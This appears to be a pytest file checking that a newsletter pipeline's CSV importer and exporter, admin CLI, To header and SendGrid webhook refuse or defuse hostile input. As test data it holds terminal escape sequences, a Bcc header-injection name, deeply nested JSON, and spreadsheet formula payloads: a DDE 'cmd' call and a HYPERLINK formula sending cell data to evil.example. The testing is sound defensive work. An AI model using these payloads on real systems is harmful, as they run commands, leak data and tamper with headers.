"""Issue 12, hostile input to the audience and the webhook: every bad input a clear error naming its
place, nothing of it stored, nothing of it printed raw, and no one bad event failing a whole post.

Items: 10 (control characters in names and fields: the importer, the admin commands, the terminal, the
To header), 11 (spreadsheet formulas in exports), 12 (addresses stored as typed; addresses a transport
cannot take) and 14 (webhook events that overflow, nest or lack an id).
"""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from email.parser import BytesParser
from email.policy import default
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select, update
from starlette.applications import Starlette
from starlette.testclient import TestClient

from pipeline.audience.exporter import export_subscribers
from pipeline.audience.fields import check_name
from pipeline.audience.importer import import_csv
from pipeline.audience.profile import clean_name
from pipeline.audience.subscribers import add_subscriber, get_subscriber, list_subscribers, subscriber_log
from pipeline.errors import AudienceError, ImportRejected
from pipeline.recipient import Recipient
from pipeline.render.links import Links
from pipeline.render.message import MessageTemplate
from pipeline.render.renderer import RenderedIssue
from pipeline.settings import Settings
from pipeline.store.engine import Store, connect
from pipeline.store.tables import delivery_events, subscribers
from pipeline.tokens import Signer
from pipeline.web import create_app
from tests.emulators.sendgrid_events import EventKey, event, post_events
from tests.fixtures.project import CliInvoker, cli_invoker
from tests.fixtures.store import TEST_KEY, snapshot
from tests.web_support import person, web_settings

RAW_CONTROLS = ("\x00", "\x07", "\x0b", "\x1b", "\x7f", "\u202e")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What OWASP's CSV injection guidance says a spreadsheet may run as a formula."""


def write(folder: Path, text: str, name: str = "people.csv") -> Path:
    path = folder / name
    path.write_text(text, encoding="utf-8", newline="")
    return path


def people(store: Store) -> list[tuple[object, ...]]:
    return [
        (p.email, p.name, p.tags, p.timezone, p.status, p.attributes)
        for p in list_subscribers(store, limit=None)
    ]


def printable(text: str) -> bool:
    """True when ``text`` would not move, colour or retitle a terminal: lines of printable characters."""
    return all(line.isprintable() for line in text.splitlines())


# --- item 10: control characters and long values ----------------------------------------------------------


def test_an_import_refuses_control_characters_and_long_names_naming_file_line_and_column(
    store: Store, tmp_path: Path
) -> None:
    """Issue 12 item 10: a name or attribute with \\v, ESC or NUL, or a 100,000-character name, is a bad
    row (FILE:LINE: error: COLUMN: …, the characters shown escaped); the rest follow the import's rule."""
    rows = [
        "email,name,city",
        "ok@example.com,Ok,Oslo",
        "v@example.com,Ver\vtical,Rome",
        'esc@example.com,"\x1b]0;owned\x07Eve",Paris',
        "nul@example.com,Nul\x00,Bern",
        "city@example.com,City,Lon\x1b[2Jdon",
        f"long@example.com,{'x' * 100_000},Riga",
    ]
    path = write(tmp_path, "\n".join(rows) + "\n")
    before = snapshot(store)

    with pytest.raises(ImportRejected) as raised:
        import_csv(store, path)

    assert snapshot(store) == before
    message = str(raised.value)
    assert printable(message)
    assert message.splitlines() == [
        f"{path}:3: error: name: 'Ver\\x0btical' contains invisible characters U+000B (VERTICAL TAB); "
        "remove them",
        f"{path}:4: error: name: '\\x1b]0;owned\\x07Eve' contains invisible characters U+001B (ESCAPE), "
        "U+0007 (BELL); remove them",
        f"{path}:5: error: name: 'Nul\\x00' contains invisible characters U+0000 (NULL); remove them",
        f"{path}:6: error: city: 'Lon\\x1b[2Jdon' contains invisible characters U+001B (ESCAPE); remove them",
        f"{path}:7: error: name: '{'x' * 80}…' is 100000 characters long; at most 200 are allowed",
    ]
    result = import_csv(store, path, skip_invalid=True)
    assert (result.added, result.rejected) == (1, 5)
    assert people(store) == [("ok@example.com", "Ok", (), None, "active", {"city": "Oslo"})]


def test_an_attribute_may_span_lines_but_a_name_may_not(store: Store, tmp_path: Path) -> None:
    """Issue 12 item 10: a quoted cell may hold line breaks in an attribute (an address, say), never in a
    name: the name has the preferences form's rule (one line, at most 200 characters)."""
    path = write(tmp_path, 'email,name,address\na@example.com,Ann,"1 Main St\r\nSpringfield"\n')
    assert import_csv(store, path).added == 1
    assert get_subscriber(store, "a@example.com").attributes == {"address": "1 Main St\r\nSpringfield"}
    two_lines = write(tmp_path, 'email,name\nb@example.com,"Bo\nBcc: x@example.org"\n', "2.csv")
    with pytest.raises(ImportRejected, match=r"2\.csv:2: error: name: 'Bo\\nBcc: x@example\.org'"):
        import_csv(store, two_lines)


@given(st.text())
def test_the_forms_clean_a_name_into_one_the_import_accepts(raw: str) -> None:
    """Issue 12 item 10: the preferences form and the importer share one rule: what the form keeps of
    any text is a name the importer takes as it is."""
    cleaned = clean_name(raw)
    assert cleaned is None or check_name(cleaned) == cleaned


@pytest.fixture
def shell(operator_shell: Path) -> CliInvoker:
    return cli_invoker(operator_shell / "settings.toml")


def test_subscribers_add_refuses_a_name_with_control_characters_or_too_long(
    shell: CliInvoker, operator_shell: Path
) -> None:
    """Issue 12 item 10: `subscribers add --name` has the importer's rules; the error shows the
    characters escaped and nothing is added."""
    refused = shell("subscribers", "add", "eve@example.com", "--name", "\x1b]0;owned\x07Eve", expect=1)
    expected = "error: name: '\\x1b]0;owned\\x07Eve' contains invisible characters U+001B (ESCAPE), U+0007"
    assert expected in refused.stderr
    assert printable(refused.output)
    long = shell("subscribers", "add", "eve@example.com", "--name", "e" * 201, expect=1)
    assert "is 201 characters long; at most 200 are allowed" in long.stderr
    assert "0 shown" in shell("subscribers", "list").output
    shell("subscribers", "add", "eve@example.com", "--name", "Eve Adams")
    assert "Eve Adams" in shell("subscribers", "list").output


def test_list_and_show_print_stored_control_characters_escaped_and_markup_as_text(
    shell: CliInvoker, operator_shell: Path
) -> None:
    """Issue 12 item 10: a name stored before the import refused control characters (or markup-like
    text) reaches the terminal escaped: no ESC/OSC sequence, no NUL, no rich colour."""
    shell("subscribers", "add", "eve@example.com", "--name", "Eve")
    hostile = "\x1b]0;owned\x07Eve\x00 [bold red]x\u202e"
    store = connect(f"sqlite:///{operator_shell / 'var' / 'newsletter.db'}", TEST_KEY)
    try:
        with store.write() as conn:
            conn.execute(update(subscribers).values(name=hostile, attributes={"no\x1bte": "a\x1b[2Jb"}))
    finally:
        store.close()

    listed = shell("subscribers", "list").output
    shown = shell("subscribers", "show", "eve@example.com").output

    for output in (listed, shown):
        assert not any(char in output for char in RAW_CONTROLS)
        assert "\\x1b]0;owned\\x07Eve\\x00 [bold red]x\\u202e" in output
    assert "attributes.no\\x1bte" in shown and "a\\x1b[2Jb" in shown


def test_a_stored_name_with_control_characters_never_reaches_the_to_header_raw(
    settings: Settings, rendered: RenderedIssue
) -> None:
    """Issue 12 item 10: defence in depth: a NUL, ESC or DEL already in the store is left out of To:
    (the rest of the name stays), and the message still parses with the right address."""
    recipient = Recipient(7, "ana@example.com", "Ana\x00 \x1b[31mLima\x7f")
    fields = Links(settings, Signer(TEST_KEY)).personal_fields(recipient)

    raw = MessageTemplate(settings, rendered).build(recipient, fields, message_id="<m@example.org>")

    head = raw.split(b"\r\n\r\n", 1)[0]
    assert not any(byte < 0x20 or byte == 0x7F for byte in head.replace(b"\r\n", b""))
    [to] = BytesParser(policy=default).parsebytes(raw)["To"].addresses
    assert (to.display_name, to.addr_spec) == ("Ana [31mLima", "ana@example.com")


# --- item 11: spreadsheet formulas ------------------------------------------------------------------------

HOSTILE = {
    "cmd@example.com": "=cmd|'/c calc'!A1",
    "link@example.com": '=HYPERLINK("https://evil.example/?d="&A1,"Click me")',
    "sum@example.com": "+SUM(1,2)",
    "at@example.com": "@SUM(1,2)",
    "minus@example.com": "-2+3",
    "quoted@example.com": "'=already guarded by hand",
    "twice@example.com": "''+two apostrophes",
}
ORDINARY = {
    "apostrophe@example.com": "'Tis the season",
    "obrien@example.com": "Seán O'Brien",
    "plain@example.com": "Ana Lima",
}


def test_an_export_defuses_formulas_and_an_import_restores_them(store: Store, tmp_path: Path) -> None:
    """Issue 12 item 11: cells starting with = + - @ TAB CR are written with a leading ' (OWASP), a value
    that really starts with ' before such a character gets one more, and import takes exactly one off:
    export → import is lossless for hostile and ordinary values alike."""
    for email, name in {**HOSTILE, **ORDINARY}.items():
        add_subscriber(store, email, name=name, tags=["-minus-tag"], attributes={"=col": "\t=1+1"})
    add_subscriber(store, "=1+2@example.com", name="Formula Address", attributes={"note": "\r@x"})
    exported = tmp_path / "export.csv"

    with exported.open("w", encoding="utf-8", newline="") as out:
        export_subscribers(store, out)

    with exported.open(encoding="utf-8", newline="") as handle:
        cells = list(csv.reader(handle))
    assert cells[0] == ["email", "name", "tags", "timezone", "status", "'=col", "note"]
    assert not [cell for row in cells for cell in row if cell.startswith(FORMULA_STARTS)]
    names = {row[0]: row[1] for row in cells[1:]}
    assert names["'=1+2@example.com"] == "Formula Address"
    assert {email: names[email] for email in HOSTILE} == {
        email: "'" + name for email, name in HOSTILE.items()
    }
    assert {email: names[email] for email in ORDINARY} == ORDINARY
    assert {row[2] for row in cells[1:]} == {"'-minus-tag", ""}
    assert {row[5] for row in cells[1:]} == {"'\t=1+1", ""}
    assert cells[-1][6] == "'\r@x"

    with connect(f"sqlite:///{tmp_path / 'restored.db'}", TEST_KEY) as restored:
        assert import_csv(restored, exported).added == len(HOSTILE) + len(ORDINARY) + 1
        assert people(restored) == people(store)


def test_the_rejects_file_is_defused_too(store: Store, tmp_path: Path) -> None:
    """Issue 12 item 11: the rejects CSV an import writes holds the file's own cells: formulas in it
    are guarded like an export's, and the header and reason stay readable."""
    path = write(tmp_path, 'email,name\nnot-an-address,"=HYPERLINK(""https://evil.example"")"\n')

    import_csv(store, path, skip_invalid=True, rejects=tmp_path / "rejects.csv")

    with (tmp_path / "rejects.csv").open(encoding="utf-8", newline="") as handle:
        header, row = list(csv.reader(handle))
    assert header == ["email", "name", "reason"]
    assert row[:2] == ["not-an-address", '\'=HYPERLINK("https://evil.example")']
    assert row[2].startswith("'not-an-address' is not a valid email address")


# --- item 12: addresses -----------------------------------------------------------------------------------


def test_an_address_is_stored_as_typed_and_both_idna_forms_are_one_person(
    store: Store, tmp_path: Path
) -> None:
    """Issue 12 item 12: an ASCII (punycode) domain stays ASCII, a Unicode one stays Unicode, each
    lower-cased; zoe@xn--bcher-kva.de and zoe@bücher.de are the same person for every lookup."""
    import_csv(store, write(tmp_path, "email,name\nZoe@XN--BCHER-KVA.de,Zoë\nmax@Bücher.DE,Max\n"))

    assert [p.email for p in list_subscribers(store)] == ["Zoe@xn--bcher-kva.de", "max@bücher.de"]
    assert get_subscriber(store, "zoe@bücher.de").name == "Zoë"
    assert get_subscriber(store, "MAX@xn--bcher-kva.de").name == "Max"
    again = import_csv(store, write(tmp_path, "email\nzoe@bücher.de\nmax@xn--bcher-kva.de\n", "2.csv"))
    assert (again.added, again.unchanged) == (0, 2)
    with pytest.raises(AudienceError, match="already a subscriber"):
        add_subscriber(store, "ZOE@bücher.de")
    both = write(tmp_path, "email\nann@xn--bcher-kva.de\nann@bücher.de\n", "3.csv")
    with pytest.raises(ImportRejected, match=r"3\.csv:3: error: email: 'ann@bücher\.de' is a duplicate"):
        import_csv(store, both)


@pytest.fixture
def with_transport(operator_shell: Path) -> Callable[[str], CliInvoker]:
    """`newsletter` on the project copy with ``[delivery] transport`` set to the given one."""

    def configured(transport: str) -> CliInvoker:
        text = (operator_shell / "settings.toml").read_text(encoding="utf-8")
        changed = text.replace('transport = "outbox"', f'transport = "{transport}"', 1)
        assert changed != text or transport == "outbox"
        path = operator_shell / f"settings-{transport}.toml"
        path.write_text(changed, encoding="utf-8")
        return cli_invoker(path)

    return configured


@pytest.mark.parametrize(
    ("transport", "warning"),
    [
        ("sendgrid", "cannot be sent through SendGrid, which does not accept a local part outside ASCII"),
        (
            "smtp",
            "needs SMTPUTF8 (its local part is not ASCII): it is sent only if the SMTP server offers SMTPUTF8",
        ),
        ("outbox", None),
    ],
)
def test_import_and_add_warn_of_addresses_the_configured_transport_cannot_take(
    with_transport: Callable[[str], CliInvoker], operator_shell: Path, transport: str, warning: str | None
) -> None:
    """Issue 12 item 12: a Unicode local part is imported, with a FILE:LINE: warning: line saying what
    the configured transport will do with it; a Unicode domain (sent as IDNA) needs no warning."""
    run = with_transport(transport)
    write(operator_shell, "email\nana@example.com\njosé@example.com\nzoe@bücher.de\n")

    imported = run("subscribers", "import", "people.csv")
    added = run("subscribers", "add", "zoë@example.com")

    assert "3 added" in imported.output and "added zoë@example.com" in added.output
    if warning is None:
        assert "warning" not in imported.output + added.output
    else:
        assert imported.stderr.splitlines() == [f"people.csv:3: warning: email: 'josé@example.com' {warning}"]
        assert f"warning: email: 'zoë@example.com' {warning}" in added.stderr


# --- item 14: webhook edges -------------------------------------------------------------------------------


@pytest.fixture
def app(settings: Settings, store: Store, key: EventKey) -> Starlette:
    """The webhook trusting ``key``, with the default body cap (5 MB)."""
    return create_app(web_settings(settings, key), store)


def stored(store: Store) -> list[dict[str, Any]]:
    with store.read() as conn:
        rows = conn.execute(select(delivery_events).order_by(delivery_events.c.id)).mappings()
        return [dict(row) for row in rows]


def test_ids_of_2_to_the_63_or_more_are_unknown_ids_not_a_500(
    client: TestClient, store: Store, key: EventKey
) -> None:
    """Issue 12 item 14: a custom arg posted as a JSON integer ≥ 2^63 (no id of ours) is an unknown id,
    like a non-numeric one; the post is a 200 and every event is stored."""
    ana = person(store)
    big = {"campaign_id": 2**63, "subscriber_id": 2**64, "delivery_id": 2**63}
    items = [
        event("delivered", "ana@example.com", subscriber_id=ana.id, sg_event_id="good"),
        {**event("open", "ana@example.com", sg_event_id="big"), **big},
        {**event("click", "bo@example.com", sg_event_id="negative"), "subscriber_id": -(2**70)},
    ]

    response = post_events(client, items, key)

    assert response.status_code == 200
    assert response.json() == {
        "stored": 3,
        "duplicates": 0,
        "ignored": 0,
        "status_changes": 0,
        "paused_campaigns": 0,
    }
    rows = {
        row["sg_event_id"]: (row["kind"], row["campaign_id"], row["subscriber_id"]) for row in stored(store)
    }
    assert rows == {
        "good": ("delivered", None, ana.id),
        "big": ("open", None, ana.id),  # the address still says who it was
        "negative": ("click", None, None),
    }


def test_events_with_control_characters_huge_numbers_or_deep_nesting_never_fail_the_post(
    client: TestClient, store: Store, key: EventKey
) -> None:
    """Issue 12 item 14: NUL (which PostgreSQL refuses), lone surrogates and ESC are dropped from
    stored text, a 5,000-digit number is no id and 1e400 no time, and an event nested 40 deep is
    skipped and counted: a 200, and every readable event stored."""
    ana = person(store)
    items = [
        {"event": "deferred\x00", "response": "421 \ud800 try\x1b[2J later", "sg_event_id": "nul\x00"},
        {"event": "click", "url": "https://x.org/\x00a", "email": "ana@example.com", "sg_event_id": "url"},
        {"event": "open", "sg_event_id": "deep", "x": json.loads("[" * 40 + "]" * 40)},
    ]
    huge = (
        b'{"event": "open", "campaign_id": ' + b"9" * 5000 + b', "timestamp": 1e400, "sg_event_id": "huge"}'
    )
    body = json.dumps(items).encode()[:-1] + b", " + huge + b"]"
    before = subscriber_log(store, ana.id)

    response = post_events(client, body, key)

    assert response.status_code == 200
    assert (response.json()["stored"], response.json()["ignored"]) == (3, 1)
    rows = {row["sg_event_id"]: row for row in stored(store)}
    assert sorted(rows) == ["huge", "nul", "url"]
    assert (rows["nul"]["kind"], rows["nul"]["reason"]) == ("deferred", "421   try [2J later")
    assert (rows["url"]["url"], rows["url"]["subscriber_id"]) == ("https://x.org/ a", ana.id)
    assert rows["huge"]["campaign_id"] is None
    assert subscriber_log(store, ana.id) == before


def test_a_body_nested_50000_deep_is_400_and_changes_nothing(
    client: TestClient, store: Store, key: EventKey
) -> None:
    """Issue 12 item 14: a signed body of 50,000 nested arrays is refused as not an array of events
    (400), not a RecursionError (500)."""
    before = snapshot(store)

    response = post_events(client, b"[" * 50_000 + b"]" * 50_000, key)

    assert (response.status_code, response.text) == (400, "Bad Request")
    assert snapshot(store) == before


def test_an_event_without_an_sg_event_id_is_stored_once_however_often_it_is_replayed(
    client: TestClient, store: Store, key: EventKey
) -> None:
    """Issue 12 item 14: an event without ``sg_event_id`` is keyed by its content, so SendGrid's retry of
    the same post stores nothing twice and changes no status twice."""
    ana = person(store)
    bounce = {"event": "bounce", "email": "ana@example.com", "timestamp": 1_700_000_000, "reason": "550"}
    bounce["subscriber_id"] = str(ana.id)
    body = [bounce, {"event": "open", "email": "ana@example.com", "timestamp": 1_700_000_001}]

    first = post_events(client, body, key).json()
    log = subscriber_log(store, ana.id)
    again = post_events(client, body, key).json()

    assert (first["stored"], first["status_changes"]) == (2, 1)
    assert (again["stored"], again["duplicates"], again["status_changes"]) == (0, 2, 0)
    assert [row["kind"] for row in stored(store)] == ["bounce", "open"]
    assert subscriber_log(store, ana.id) == log
